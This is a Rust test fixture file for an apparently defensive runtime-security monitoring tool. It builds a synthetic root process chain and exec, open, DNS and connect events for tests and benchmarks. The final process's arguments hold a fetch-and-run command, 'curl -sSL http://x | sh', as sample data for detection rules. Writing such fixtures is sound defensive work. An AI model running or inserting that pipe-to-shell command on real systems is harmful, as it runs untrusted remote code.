//! Event fixtures shared by the integration tests and benches.
#![allow(dead_code)]

use std::sync::Arc;

use vigil_model::*;

pub const NOW: u64 = 1_700_000_000_000_000_000;
pub const SEC: u64 = 1_000_000_000;

/// init(1) → bash(100, tty) → git(200, "clone --recursive") → sh(300) : the event process.
pub fn chain() -> Arc<Process> {
    let init = Arc::new(Process {
        pid: 1,
        comm: "systemd".into(),
        file: File::from_path("/usr/lib/systemd/systemd"),
        args: Arc::new(ArgsEnvs {
            argv0: "/sbin/init".into(),
            ..ArgsEnvs::default()
        }),
        ..Process::default()
    });
    let bash = Arc::new(Process {
        pid: 100,
        ppid: 1,
        comm: "bash".into(),
        tty_name: "pts0".into(),
        cgroup: "/system.slice/app.service".into(),
        file: File::from_path("/usr/bin/bash"),
        credentials: Credentials {
            uid: 1000,
            euid: 1000,
            user: "alice".into(),
            ..Credentials::default()
        },
        args: Arc::new(ArgsEnvs {
            argv0: "bash".into(),
            args: vec!["-i".into()],
            ..ArgsEnvs::default()
        }),
        ancestor: Some(init),
        ..Process::default()
    });
    let git = Arc::new(Process {
        pid: 200,
        ppid: 100,
        comm: "git".into(),
        cgroup: "/system.slice/app.service".into(),
        file: File::from_path("/usr/bin/git"),
        credentials: Credentials {
            uid: 0,
            euid: 0,
            user: "root".into(),
            ..Credentials::default()
        },
        args: Arc::new(ArgsEnvs {
            argv0: "git".into(),
            args: vec!["clone".into(), "--recursive".into(), "https://x/y".into()],
            ..ArgsEnvs::default()
        }),
        ancestor: Some(bash),
        ..Process::default()
    });
    Arc::new(Process {
        pid: 300,
        ppid: 200,
        tid: 300,
        comm: "sh".into(),
        cgroup: "/system.slice/app.service".into(),
        exec_time: NOW - 3 * SEC,
        fork_time: NOW - 4 * SEC,
        file: File {
            path: "/usr/bin/c$t".into(),
            name: "c$t".into(),
            inode: 42,
            mode: 0o100755,
            uid: 0,
            modification_time: NOW - 10 * SEC,
            in_upper_layer: Some(true),
            filesystem: "overlay".into(),
            ..File::default()
        },
        credentials: Credentials {
            uid: 0,
            gid: 0,
            euid: 0,
            cap_effective: 1 << 21,
            auid: 1000,
            user: "root".into(),
            ..Credentials::default()
        },
        container: Some(ContainerContext {
            id: "abc123".into(),
            created_at: NOW - 60 * SEC,
        }),
        args: Arc::new(ArgsEnvs {
            argv0: "sh".into(),
            args: vec![
                "-c".into(),
                "curl -sSL http://x | sh".into(),
                "-p".into(),
                "0-1024".into(),
                "--verbose".into(),
            ],
            envp: vec![
                "PATH=/bin".into(),
                "DD_SERVICE=web".into(),
                "HOME=/root".into(),
            ],
            ..ArgsEnvs::default()
        }),
        ancestor: Some(git),
        ..Process::default()
    })
}

pub fn event(data: EventData) -> Event {
    let mut e = Event::new(NOW, chain(), data);
    e.retval = 0;
    e
}

pub fn exec() -> Event {
    event(EventData::Exec)
}

pub fn open(path: &str, flags: u32) -> Event {
    event(EventData::Open(OpenEvent {
        file: File {
            mode: 0o100644,
            ..File::from_path(path)
        },
        flags,
        mode: 0o644,
    }))
}

pub fn dns(name: &str) -> Event {
    let mut e = event(EventData::Dns(DnsEvent {
        id: 7,
        question: DnsQuestion {
            name: name.into(),
            class: 1,
            qtype: 16,
            size: 40,
            count: 1,
        },
    }));
    e.network = Some(NetworkContext {
        device: None,
        l3_protocol: 0x0800,
        l4_protocol: 17,
        source: IpPort {
            ip: "192.168.0.1".parse().unwrap(),
            port: 5353,
        },
        destination: IpPort {
            ip: "8.8.8.8".parse().unwrap(),
            port: 53,
        },
        size: 64,
    });
    e
}

pub fn connect(ip: &str, port: u16) -> Event {
    event(EventData::Connect(ConnectEvent {
        family: 2,
        ip: ip.parse().unwrap(),
        port,
        protocol: 6,
    }))
}
